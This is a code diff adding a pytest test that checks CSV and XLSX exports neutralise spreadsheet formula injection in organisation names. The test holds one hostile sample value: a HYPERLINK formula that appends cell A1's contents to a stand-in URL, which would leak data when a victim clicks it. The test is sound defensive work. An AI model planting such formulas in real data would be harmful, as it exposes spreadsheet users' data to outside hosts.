@@ -294,3 +294,19 @@ def test_the_query_count_does_not_grow_with_cells(slipping):
         held(cell, months_ago(1), [])
     rollup.rebuild()
     assert [count_queries(client, target) for target in targets] == small
+
+
+FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Open")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_formula_in_a_name_comes_out_inert(slipping, fmt):
+    slipping.sister_cell.__class__.objects.filter(pk=slipping.sister_cell.pk).update(name=FORMULA)
+    content = download(slipping, "committee", slipping.ward, last_month(), fmt).content
+    if fmt == "csv":
+        names = [row["Party organisation"] for row in csv_rows(content)]
+    else:
+        sheet = load_workbook(io.BytesIO(content))["Organisations"]
+        assert {cell.data_type for cell in sheet["A"]} == {"s"}, "no cell is a formula"
+        names = [cell.value for cell in sheet["A"]]
+    assert "'" + FORMULA in names and FORMULA not in names
